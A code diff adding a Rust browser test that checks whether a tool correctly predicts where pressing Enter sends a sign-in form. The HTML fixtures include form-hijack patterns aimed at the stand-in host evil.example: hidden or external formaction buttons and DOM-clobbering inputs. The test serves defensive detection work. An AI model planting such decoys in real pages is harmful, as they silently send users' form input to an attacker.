@@ -64,6 +64,51 @@ const FORMS: &str = r#"<!doctype html><html lang="en"><title>Sign in</title>
 <div style="height:3000px"></div><input name="below">"#;
 
 #[tokio::test(flavor = "multi_thread")]
+async fn a_picture_says_where_enter_sends_a_form() {
+    let site = Site::open().await;
+    let evil = "https://evil.example";
+    let button = format!("<button formaction='{evil}/x'>Go</button>");
+    let browser = browser().await;
+    let context = context(&browser).await;
+    for (html, expected) in [
+        ("<form action=/go><input name=a><button>Go</button></form>".to_owned(), None),
+        (format!("<form action=/go><input name=a><button>First</button>{button}</form>"), None),
+        (format!("<form action=/go><input name=a><button type=button>First</button>{button}</form>"), Some(evil)),
+        (
+            format!("<form action=/go><input name=a><div style='display:none'>{button}</div><button>Own</button></form>"),
+            Some(evil),
+        ),
+        (
+            format!("<button form=f formaction='{evil}/x'>Go</button><form id=f action=/go><input name=a><button>Own</button></form>"),
+            Some(evil),
+        ),
+        (
+            format!("<form action=/go><input name=elements><input name=getRootNode><input name=a><input type=image alt=go formaction='{evil}/x'></form>"),
+            Some(evil),
+        ),
+        (
+            "<form><input name=a><button formaction='javascript:go()'>Go</button></form><script>function go() { location = '/go'; }</script>".to_owned(),
+            None,
+        ),
+    ] {
+        site.page("/", &html);
+        let page = opened(&context, &site.here()).await;
+        let picture = seen(&page).await;
+        let (frame, line) = field(&picture, "a");
+        let form = &frame.forms[line.form.unwrap() as usize];
+        assert_eq!(form.enter_origin.as_deref(), expected, "{html}");
+        assert_eq!(form.action_origin.as_deref(), Some(site.here().as_str()), "{html}");
+        // Chromium means the same.
+        page.focus(&reference(&picture, "a")).await.unwrap();
+        page.press(countersign_browser::Key::Enter).await.unwrap();
+        let there = until(&page, |picture| picture.frames[0].address != format!("{}/", site.here())).await;
+        let left = there.frames[0].address.starts_with(evil);
+        assert_eq!(left, expected.is_some(), "{html}: {}", there.frames[0].address);
+        page.close();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn a_picture_goes_through_shadow_trees_and_frames_and_knows_decoys() {
     let site = Site::open().await;
     site.page("/", FORMS)
